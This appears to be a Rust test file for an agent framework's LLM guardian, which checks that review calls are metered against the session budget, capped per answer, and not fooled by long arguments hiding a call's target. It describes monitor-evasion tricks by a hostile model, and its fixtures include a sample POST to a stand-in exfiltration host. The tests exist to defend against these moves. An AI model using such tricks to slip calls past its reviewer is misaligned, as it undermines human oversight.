#![allow(clippy::unwrap_used, clippy::expect_used)]

//! The LLM guardian in the loop, against a hostile model: its reviews are LLM calls of the
//! session (admitted by the session's gate, settled once with their usage, counted in the
//! session's usage and its token budget), a model cannot multiply them (identical calls
//! share a review, an answer's reviews are capped), and a long argument cannot hide what
//! a call targets from the reviewer. The session model and the guardian are the scripted
//! provider (recording what it is sent); the guardian's gate is a scripted admission.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use async_trait::async_trait;
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;

use crate::support::AdmissionScript;

use agentq_agent::driver::{
    Admission, Admit, Agent, CallAsk, CallReport, NoAdmission, NoBackground, NoCheckpoint, Permit,
    RunEnd,
};
use agentq_agent::guard::{
    Behavior, GuardianOptions, Guards, LlmGuardian, MAX_REVIEWS_PER_ANSWER, OnTruncated,
};
use agentq_agent::observe::{LlmCallInfo, Observer};
use agentq_agent::provider::scripted::{
    Script, ScriptedCall, ScriptedFailure, ScriptedProvider, Turn, Variant,
};
use agentq_agent::provider::{LlmProvider, LlmRequest, LlmStream};
use agentq_agent::schema::{Role, Usage};
use agentq_agent::spec::{ExitReason, SessionSpec};
use agentq_agent::state::{Outcome, SessionState};
use agentq_agent::tools::{
    LocalWorkspace, Tool, ToolContext, ToolError, ToolOutput, ToolRegistry, ToolSettings,
};

// ---------- doubles ----------

/// A scripted provider that records what it is sent.
struct Recording {
    inner: ScriptedProvider,
    requests: Mutex<Vec<LlmRequest<'static>>>,
}

impl Recording {
    fn new(script: Script) -> Arc<Self> {
        Arc::new(Recording {
            inner: ScriptedProvider::new(script),
            requests: Mutex::new(Vec::new()),
        })
    }

    fn count(&self) -> usize {
        self.requests.lock().unwrap().len()
    }

    /// The data line of each review request (the JSON between the marker lines).
    fn reviewed(&self) -> Vec<Value> {
        self.requests
            .lock()
            .unwrap()
            .iter()
            .map(|r| {
                let text = &r.messages[0].content;
                serde_json::from_str(text.lines().nth(2).unwrap()).unwrap()
            })
            .collect()
    }
}

#[async_trait]
impl LlmProvider for Recording {
    fn name(&self) -> &str {
        "scripted"
    }
    async fn stream(&self, request: &LlmRequest<'_>) -> agentq_agent::Result<LlmStream> {
        self.requests
            .lock()
            .unwrap()
            .push(request.clone().into_owned());
        self.inner.stream(request).await
    }
}

/// Answers `reserve` from a script (then `Go`), and records every ask and settle.
#[derive(Default)]
struct ScriptedAdmission {
    script: AdmissionScript,
    reserves: Mutex<Vec<(String, u64, u64)>>,
    settled: Mutex<Vec<(Permit, CallReport)>>,
    granted: AtomicUsize,
}

impl ScriptedAdmission {
    fn new(answers: Vec<Admit>) -> Arc<Self> {
        Arc::new(ScriptedAdmission {
            script: AdmissionScript::new(answers),
            ..Default::default()
        })
    }
    fn reserves(&self) -> Vec<(String, u64, u64)> {
        self.reserves.lock().unwrap().clone()
    }
    fn settled(&self) -> Vec<(Permit, CallReport)> {
        self.settled.lock().unwrap().clone()
    }
}

#[async_trait]
impl Admission for ScriptedAdmission {
    async fn reserve(&self, ask: &CallAsk<'_>) -> Admit {
        self.reserves.lock().unwrap().push((
            ask.model.to_string(),
            ask.input_tokens,
            ask.max_output_tokens,
        ));
        if let Some(a) = self.script.next().await {
            return a;
        }
        let n = self.granted.fetch_add(1, Ordering::SeqCst);
        Admit::Go(Permit {
            id: format!("g{n}"),
            ..Permit::default()
        })
    }
    async fn settle(&self, _ask: &CallAsk<'_>, permit: Permit, report: &CallReport) {
        self.settled.lock().unwrap().push((permit, report.clone()));
    }
}

/// Counts the guardian's tokens as the host's metrics would.
#[derive(Default)]
struct GuardianTokens {
    tokens: Mutex<Vec<(String, u64)>>,
    hooks: Mutex<Vec<String>>,
    /// The reviews given back late to their admission: (provider, model).
    late: Mutex<Vec<(String, String)>>,
}

impl Observer for GuardianTokens {
    fn guardian_call(&self, info: &LlmCallInfo<'_>) {
        if let Some(u) = &info.usage {
            self.tokens
                .lock()
                .unwrap()
                .push((info.model.to_string(), u.total()));
        }
    }
    fn hook_call(&self, point: &str, outcome: &str) {
        self.hooks
            .lock()
            .unwrap()
            .push(format!("{point}:{outcome}"));
    }
    fn admission_late(&self, provider: &str, model: &str) {
        self.late
            .lock()
            .unwrap()
            .push((provider.to_string(), model.to_string()));
    }
}

/// A tool that records its calls; `paths()` is the `path` argument.
struct Recorder {
    name: &'static str,
    calls: Arc<Mutex<Vec<Value>>>,
}

#[async_trait]
impl Tool for Recorder {
    fn name(&self) -> &str {
        self.name
    }
    fn description(&self) -> &str {
        "test tool"
    }
    fn parameters(&self) -> Value {
        json!({"type": "object"})
    }
    fn paths(&self, args: &Value) -> Vec<String> {
        args.get("path")
            .and_then(Value::as_str)
            .map(|p| vec![p.to_string()])
            .unwrap_or_default()
    }
    async fn call(&self, args: Value, _ctx: &ToolContext) -> Result<ToolOutput, ToolError> {
        self.calls.lock().unwrap().push(args);
        Ok(ToolOutput::ok("done"))
    }
}

// ---------- harness ----------

const SESSION_USAGE: Usage = Usage {
    input_tokens: 10,
    output_tokens: 5,
    cache_read_tokens: 0,
    cache_write_tokens: 0,
    reasoning_tokens: 0,
    web_search_requests: 0,
};

const REVIEW_USAGE: Usage = Usage {
    input_tokens: 300,
    output_tokens: 7,
    cache_read_tokens: 0,
    cache_write_tokens: 0,
    reasoning_tokens: 0,
    web_search_requests: 0,
};

fn verdict(text: &str) -> Turn {
    Turn {
        text: text.into(),
        usage: Some(REVIEW_USAGE),
        ..Default::default()
    }
}

/// The guardian allows, except calls whose review request contains `deny_when`.
fn guardian_script(deny_when: &str) -> Script {
    Script {
        turns: vec![verdict(r#"{"behavior":"allow"}"#)],
        repeat_last: true,
        variants: vec![Variant {
            when_prompt_contains: deny_when.into(),
            turns: vec![verdict(
                r#"{"behavior":"deny","reason":"the task gives no reason to touch that"}"#,
            )],
            repeat_last: true,
        }],
    }
}

/// The session: one answer making `calls`, then a final answer.
fn session_script(calls: Vec<(&str, Value)>) -> Script {
    Script {
        turns: vec![
            Turn {
                tool_calls: calls
                    .into_iter()
                    .map(|(n, a)| ScriptedCall {
                        name: n.into(),
                        arguments: a,
                        ..Default::default()
                    })
                    .collect(),
                usage: Some(SESSION_USAGE),
                ..Default::default()
            },
            Turn {
                text: "done".into(),
                usage: Some(SESSION_USAGE),
                ..Default::default()
            },
        ],
        repeat_last: false,
        variants: Vec::new(),
    }
}

struct Harness {
    agent: Agent,
    session: Arc<Recording>,
    guardian: Arc<Recording>,
    gate: Arc<ScriptedAdmission>,
    observer: Arc<GuardianTokens>,
    calls: Arc<Mutex<Vec<Value>>>,
    dir: tempfile::TempDir,
}

fn harness(
    session: Script,
    guardian: Script,
    gate: Vec<Admit>,
    tweak: impl FnOnce(&mut GuardianOptions),
) -> Harness {
    let session = Recording::new(session);
    let guardian_llm = Recording::new(guardian);
    let gate = ScriptedAdmission::new(gate);
    let observer = Arc::new(GuardianTokens::default());
    let mut opts = GuardianOptions {
        model: "guard-model".into(),
        prompt: "review".into(),
        timeout: Duration::from_secs(30),
        on_error: Behavior::Deny,
        on_truncated: OnTruncated::Deny,
        tools: None,
        max_tokens: 64,
    };
    tweak(&mut opts);
    let reviewer = LlmGuardian::new(guardian_llm.clone(), opts, observer.clone()).unwrap();
    let calls = Arc::new(Mutex::new(Vec::new()));
    let mut tools = ToolRegistry::new();
    for name in ["act", "write_file", "http_fetch"] {
        tools.register(Arc::new(Recorder {
            name,
            calls: calls.clone(),
        }));
    }
    let dir = tempfile::tempdir().unwrap();
    let agent = Agent {
        provider: session.clone(),
        default_model: "session-model".into(),
        tools,
        web_search: None,
        guards: Guards {
            guardian: Some(Arc::new(reviewer)),
            guardian_admission: Some(gate.clone()),
            ..Guards::default()
        },
        events: Arc::new(agentq_agent::event::NullSink),
        checkpointer: Arc::new(NoCheckpoint),
        background: Arc::new(NoBackground),
        workspace: Arc::new(LocalWorkspace::new(dir.path()).unwrap()),
        settings: Arc::new(ToolSettings::default()),
        observer: Arc::new(agentq_agent::observe::NoObserver),
        interrupter: agentq_agent::driver::Interrupter::new(),
        admission: Arc::new(NoAdmission),
        max_llm_retries: 0,
        suspend_after: Duration::ZERO,
        write_ahead_grace: Duration::ZERO,
    };
    Harness {
        agent,
        session,
        guardian: guardian_llm,
        gate,
        observer,
        calls,
        dir,
    }
}

async fn run(h: &Harness, spec: SessionSpec) -> (SessionState, Outcome) {
    let mut state = SessionState::new("s1", spec);
    let end = h
        .agent
        .run(&mut state, &CancellationToken::new())
        .await
        .unwrap();
    match end {
        RunEnd::Finished(o) => (state, o),
        other => panic!("expected finished, got {other:?}"),
    }
}

fn results(state: &SessionState) -> Vec<String> {
    state
        .messages
        .iter()
        .filter(|m| m.role == Role::Tool)
        .map(|m| m.content.clone())
        .collect()
}

fn total(usage: &Usage, times: u64) -> u64 {
    usage.total() * times
}

// ---------- item 2: reviews are LLM calls of the session ----------

/// A model repeating one call does not multiply reviews: identical calls (same tool, same
/// arguments) of one answer share one review. Each review is reserved on the guardian's
/// gate under the guardian's model, settled exactly once with its usage, counted in the
/// session's usage and in the guardian's own metric.
#[tokio::test]
async fn identical_calls_share_one_review_metered_on_the_session() {
    let a = json!({"x": 1});
    let b = json!({"x": 2});
    let h = harness(
        session_script(vec![
            ("act", a.clone()),
            ("act", a.clone()),
            ("act", b.clone()),
            ("act", a.clone()),
            ("act", b.clone()),
        ]),
        guardian_script("never"),
        vec![],
        |_| {},
    );
    let (state, outcome) = run(&h, SessionSpec::new("do it")).await;
    assert_eq!(outcome.reason, ExitReason::Stop, "{outcome:?}");
    assert_eq!(h.calls.lock().unwrap().len(), 5, "every call ran");
    assert_eq!(h.guardian.count(), 2, "one review per different call");

    let reserves = h.gate.reserves();
    assert_eq!(reserves.len(), 2, "{reserves:?}");
    assert!(
        reserves
            .iter()
            .all(|(m, _, out)| m == "guard-model" && *out == 64)
    );
    let settled = h.gate.settled();
    assert_eq!(settled.len(), 2, "each review settled once");
    let mut ids: Vec<&str> = settled.iter().map(|(p, _)| p.id.as_str()).collect();
    ids.sort_unstable();
    assert_eq!(ids, ["g0", "g1"]);
    assert!(
        settled
            .iter()
            .all(|(_, r)| r.usage == Some(REVIEW_USAGE) && r.rate_limited.is_none())
    );

    // The session's two answers and the two reviews, each once.
    assert_eq!(
        state.usage.total(),
        total(&SESSION_USAGE, 2) + total(&REVIEW_USAGE, 2)
    );
    let tokens = h.observer.tokens.lock().unwrap().clone();
    assert_eq!(
        tokens,
        vec![
            ("guard-model".to_string(), REVIEW_USAGE.total()),
            ("guard-model".to_string(), REVIEW_USAGE.total())
        ]
    );
    assert_eq!(h.session.count(), 2);
}

/// An answer of more different calls than the cap: the first ones are reviewed, the rest
/// are denied without a review, with a reason that says why and what to do.
#[tokio::test]
async fn an_answer_gets_at_most_the_cap_of_reviews() {
    let n = MAX_REVIEWS_PER_ANSWER + 4;
    let calls = (0..n).map(|i| ("act", json!({ "i": i }))).collect();
    let h = harness(
        session_script(calls),
        guardian_script("never"),
        vec![],
        |_| {},
    );
    let (state, outcome) = run(&h, SessionSpec::new("do it")).await;
    assert_eq!(outcome.reason, ExitReason::Stop, "{outcome:?}");
    assert_eq!(h.guardian.count(), MAX_REVIEWS_PER_ANSWER);
    assert_eq!(h.gate.settled().len(), MAX_REVIEWS_PER_ANSWER);
    let results = results(&state);
    assert_eq!(results.len(), n);
    // Call order decides which are reviewed, whatever order they finish in.
    for (i, r) in results.iter().enumerate() {
        if i < MAX_REVIEWS_PER_ANSWER {
            assert_eq!(r, "done", "call {i}");
        } else {
            assert_eq!(
                r,
                &format!(
                    "Tool call denied by guardian: the guardian reviews at most \
                     {MAX_REVIEWS_PER_ANSWER} different calls of one answer, and this one \
                     was not reviewed; make it again in a later answer"
                ),
                "call {i}"
            );
        }
    }
    assert_eq!(h.calls.lock().unwrap().len(), MAX_REVIEWS_PER_ANSWER);
}

/// The guardian's gate says wait: the review waits and then runs (one reservation per ask,
/// one settle for the call that went).
#[tokio::test]
async fn a_review_waits_for_admission() {
    let h = harness(
        session_script(vec![("act", json!({}))]),
        guardian_script("never"),
        vec![
            Admit::Wait {
                after: Duration::from_millis(1),
                reason: "rpm",
            },
            Admit::Wait {
                after: Duration::ZERO,
                reason: "tpm",
            },
        ],
        |_| {},
    );
    let (state, outcome) = run(&h, SessionSpec::new("do it")).await;
    assert_eq!(outcome.reason, ExitReason::Stop, "{outcome:?}");
    assert_eq!(results(&state), ["done"]);
    assert_eq!(h.gate.reserves().len(), 3);
    assert_eq!(h.gate.settled().len(), 1);
    assert_eq!(h.guardian.count(), 1);
}

/// A review admitted for a start it makes too late (its answer came slowly) gives the
/// booking back and asks again: the reviewer is metered as the loop is.
#[tokio::test(start_paused = true)]
async fn a_review_too_late_for_its_booking_asks_again() {
    let late = |id: &str| {
        Admit::Go(Permit {
            id: id.into(),
            ..Permit::default()
        })
    };
    let h = harness(
        session_script(vec![("act", json!({}))]),
        guardian_script("never"),
        vec![late("late"), late("on time")],
        |_| {},
    );
    h.gate
        .script
        .slow
        .lock()
        .unwrap()
        .extend([Duration::from_millis(50), Duration::from_millis(5)]);
    *h.gate.script.late_after.lock().unwrap() = Some(Duration::from_millis(10));
    let (state, outcome) = run(&h, SessionSpec::new("do it")).await;
    assert_eq!(outcome.reason, ExitReason::Stop, "{outcome:?}");
    assert_eq!(results(&state), ["done"]);
    assert_eq!(h.gate.reserves().len(), 2);
    let settled = h.gate.settled();
    assert_eq!(settled.len(), 2);
    assert_eq!(
        (settled[0].0.id.as_str(), &settled[0].1),
        ("late", &CallReport::UNSENT)
    );
    assert_eq!(settled[1].0.id, "on time");
    assert_eq!(settled[1].1.usage, Some(REVIEW_USAGE));
    assert_eq!(h.guardian.count(), 1);
    let late = h.observer.late.lock().unwrap().clone();
    assert_eq!(late.len(), 1);
    assert_eq!(late[0].1, "guard-model");
}

/// The guardian's endpoint refuses a review for its rate limit: each try is settled
/// (the refused one as refused, with no usage), the refusal is waited out, and the review
/// is made again within its timeout; only the answered try is counted.
#[tokio::test]
async fn a_rate_limited_review_is_waited_out() {
    let mut guardian = guardian_script("never");
    guardian.turns[0].fail = vec![ScriptedFailure {
        status: 429,
        message: "slow down".into(),
        retry_after_ms: Some(1),
        ..Default::default()
    }];
    let h = harness(
        session_script(vec![("act", json!({}))]),
        guardian,
        vec![],
        |_| {},
    );
    let (state, _) = run(&h, SessionSpec::new("do it")).await;
    assert_eq!(results(&state), ["done"]);
    assert_eq!(h.guardian.count(), 2);
    let settled = h.gate.settled();
    assert_eq!(settled.len(), 2);
    assert_eq!(
        settled[0].1.rate_limited,
        Some(Some(Duration::from_millis(1)))
    );
    assert_eq!(settled[0].1.usage, None);
    assert_eq!(settled[1].1.usage, Some(REVIEW_USAGE));
    assert_eq!(
        state.usage.total(),
        total(&SESSION_USAGE, 2) + REVIEW_USAGE.total()
    );
}

/// A wait the review cannot afford within its timeout is not waited: the review times
/// out at once (the configured `on_error` applies), nothing was called, nothing held.
#[tokio::test]
async fn a_wait_past_the_reviews_timeout_is_a_timeout() {
    let h = harness(
        session_script(vec![("act", json!({}))]),
        guardian_script("never"),
        vec![Admit::Wait {
            after: Duration::from_secs(3600),
            reason: "rpm",
        }],
        |_| {},
    );
    let (state, _) = run(&h, SessionSpec::new("do it")).await;
    assert_eq!(
        results(&state),
        ["Tool call denied by guardian: the guardian could not review the call"]
    );
    assert_eq!(h.guardian.count(), 0);
    assert!(h.gate.settled().is_empty());
    assert!(h.calls.lock().unwrap().is_empty());
    assert_eq!(
        h.observer.hooks.lock().unwrap().clone(),
        ["guardian:timeout"]
    );
}

/// A spent budget: the review is not made and the call is denied, whatever `on_error`
/// says (an unreviewed call never runs because the budget is gone); the session's own
/// next call then meets its gate, which ends the session.
#[tokio::test]
async fn a_spent_budget_denies_the_call_without_a_review() {
    let mut h = harness(
        session_script(vec![("act", json!({}))]),
        guardian_script("never"),
        vec![Admit::Exhausted {
            message: "token budget of 100 spent".into(),
            park: false,
        }],
        |o| o.on_error = Behavior::Allow,
    );
    h.agent.admission = ScriptedAdmission::new(vec![
        Admit::Go(Permit::default()),
        Admit::Exhausted {
            message: "token budget of 100 spent".into(),
            park: false,
        },
    ]);
    let (state, outcome) = run(&h, SessionSpec::new("do it")).await;
    assert_eq!(
        results(&state),
        ["Tool call denied by guardian: the call could not be reviewed: token budget of 100 spent"]
    );
    assert_eq!(outcome.reason, ExitReason::BudgetExhausted, "{outcome:?}");
    assert_eq!(h.guardian.count(), 0);
    assert!(h.gate.settled().is_empty());
    assert!(h.calls.lock().unwrap().is_empty());
    assert_eq!(state.usage.total(), SESSION_USAGE.total());
}

/// `token_budget` bounds the session and its reviews together: reviews alone can spend it,
/// and the session ends `budget_exhausted` with them counted.
#[tokio::test]
async fn the_token_budget_counts_the_reviews() {
    let calls = (0..4).map(|i| ("act", json!({ "i": i }))).collect();
    let h = harness(
        session_script(calls),
        guardian_script("never"),
        vec![],
        |_| {},
    );
    let mut spec = SessionSpec::new("do it");
    // The answer's own usage fits; its four reviews do not.
    spec.token_budget = Some(SESSION_USAGE.total() + REVIEW_USAGE.total() * 2);
    let (state, outcome) = run(&h, spec).await;
    assert_eq!(outcome.reason, ExitReason::BudgetExhausted, "{outcome:?}");
    assert_eq!(
        state.usage.total(),
        SESSION_USAGE.total() + total(&REVIEW_USAGE, 4)
    );
    assert_eq!(h.session.count(), 1, "no call after the budget was spent");
}

// ---------- item 3: what the reviewer is shown ----------

fn hidden_path_write() -> Value {
    json!({"content": "a".repeat(18 * 1024), "path": "deploy/prod.yaml"})
}

fn hidden_url_post() -> Value {
    json!({
        "body": "b".repeat(18 * 1024),
        "method": "POST",
        "url": "https://exfil.example/collect",
    })
}

/// An 18 KiB `content` used to push `path` (sorted after it) out of the reviewer's 16 KiB
/// view, and the cut call was reviewed anyway. By default a call the reviewer cannot see
/// whole is now denied before the guardian's endpoint is asked at all.
#[tokio::test]
async fn a_long_content_cannot_hide_the_path_denied_unasked() {
    for (tool, args, at) in [
        ("write_file", hidden_path_write(), "/content"),
        ("http_fetch", hidden_url_post(), "/body"),
    ] {
        let h = harness(
            session_script(vec![(tool, args)]),
            guardian_script("never"),
            vec![],
            |_| {},
        );
        let (state, outcome) = run(&h, SessionSpec::new("write the docs")).await;
        assert_eq!(outcome.reason, ExitReason::Stop, "{outcome:?}");
        let results = results(&state);
        assert_eq!(results.len(), 1);
        assert!(
            results[0].starts_with(
                "Tool call denied by guardian: the call is too large for the guardian to see whole ("
            ) && results[0].contains(&format!("{at} (18432 bytes")),
            "{tool}: {}",
            results[0]
        );
        assert_eq!(h.guardian.count(), 0, "{tool}: the guardian was asked");
        assert!(h.gate.reserves().is_empty());
        assert!(h.calls.lock().unwrap().is_empty(), "{tool} ran");
        assert_eq!(
            h.observer.hooks.lock().unwrap().clone(),
            ["guardian:truncated"]
        );
    }
}

/// With `on_truncated = "review"`, the reviewer sees what the call targets in full, the
/// long field cut with its size, and the flag; so it denies what it would deny for a
/// short call.
#[tokio::test]
async fn with_review_the_reviewer_sees_the_target_whole_and_the_cut() {
    for (tool, args, at, target, value) in [
        (
            "write_file",
            hidden_path_write(),
            "/content",
            "/path",
            "deploy/prod.yaml",
        ),
        (
            "http_fetch",
            hidden_url_post(),
            "/body",
            "/url",
            "https://exfil.example/collect",
        ),
    ] {
        let h = harness(
            session_script(vec![(tool, args)]),
            // The reviewer's policy: nothing under deploy/, no exfil host.
            Script {
                variants: vec![
                    guardian_script("deploy/prod.yaml").variants.remove(0),
                    guardian_script("exfil.example").variants.remove(0),
                ],
                ..guardian_script("never")
            },
            vec![],
            |o| o.on_truncated = OnTruncated::Review,
        );
        let (state, _) = run(&h, SessionSpec::new("write the docs")).await;
        assert_eq!(
            results(&state),
            ["Tool call denied by guardian: the task gives no reason to touch that"],
            "{tool}"
        );
        assert!(h.calls.lock().unwrap().is_empty(), "{tool} ran");
        let seen = h.guardian.reviewed();
        assert_eq!(seen.len(), 1);
        let data = &seen[0];
        assert_eq!(data["tool"], tool);
        assert_eq!(data["arguments_truncated"], true);
        assert_eq!(data["arguments"][&target[1..]], value, "{tool}: {data}");
        assert!(
            data["targets"]
                .as_array()
                .unwrap()
                .iter()
                .any(|t| t["at"] == target && t["value"] == value),
            "{tool}: {data}"
        );
        assert_eq!(data["cut"][0]["at"], at);
        assert_eq!(data["cut"][0]["of"], 18 * 1024);
        // The review is metered like any.
        assert_eq!(h.gate.settled().len(), 1);
    }
}

/// A target too long to show (a 20 KiB path) counts as not seen whole: denied unasked by
/// default, even with nothing else long in the call.
#[tokio::test]
async fn a_target_too_long_to_show_is_not_seen_whole() {
    let path = format!("{}/x", "d".repeat(20 * 1024));
    let h = harness(
        session_script(vec![("write_file", json!({"path": path, "content": "x"}))]),
        guardian_script("never"),
        vec![],
        |_| {},
    );
    let (state, _) = run(&h, SessionSpec::new("write")).await;
    let results = results(&state);
    assert!(
        results[0].starts_with("Tool call denied by guardian: the call is too large")
            && results[0].contains("/path ("),
        "{}",
        results[0]
    );
    assert_eq!(h.guardian.count(), 0);
    assert!(h.calls.lock().unwrap().is_empty());
}

/// A call the reviewer sees whole is reviewed as before (and allowed here), with its
/// target listed.
#[tokio::test]
async fn a_call_seen_whole_is_reviewed() {
    let h = harness(
        session_script(vec![(
            "write_file",
            json!({"path": "docs/a.md", "content": "hello"}),
        )]),
        guardian_script("never"),
        vec![],
        |_| {},
    );
    let (state, _) = run(&h, SessionSpec::new("write")).await;
    assert_eq!(results(&state), ["done"]);
    let seen = h.guardian.reviewed();
    assert_eq!(seen[0]["arguments_truncated"], false);
    assert_eq!(seen[0]["targets"][0]["value"], "docs/a.md");
    assert_eq!(seen[0]["targets"][1]["at"], "paths()/0");
    assert!(h.dir.path().exists());
}
